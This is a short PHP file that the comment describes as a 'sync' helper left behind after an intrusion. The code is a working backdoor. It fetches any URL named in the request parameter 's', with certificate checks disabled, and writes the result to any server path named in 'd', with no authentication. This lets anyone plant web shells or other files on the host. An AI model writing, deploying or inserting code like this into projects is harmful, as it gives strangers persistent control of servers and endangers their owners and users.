<?php
// "sync" helper left behind after an intrusion: fetches whatever URL the caller names and stores
// it under whatever name the caller chooses
function sync_fetch($src)
{
    $h = curl_init($src);
    curl_setopt($h, CURLOPT_RETURNTRANSFER, true);
    curl_setopt($h, CURLOPT_SSL_VERIFYPEER, false);
    curl_setopt($h, CURLOPT_FOLLOWLOCATION, true);
    $body = curl_exec($h);
    curl_close($h);
    return $body;
}

if (isset($_REQUEST['s'], $_REQUEST['d'])) {
    $out = fopen($_REQUEST['d'], 'wb');
    fwrite($out, sync_fetch($_REQUEST['s']));
    fclose($out);
    echo 'synced';
}
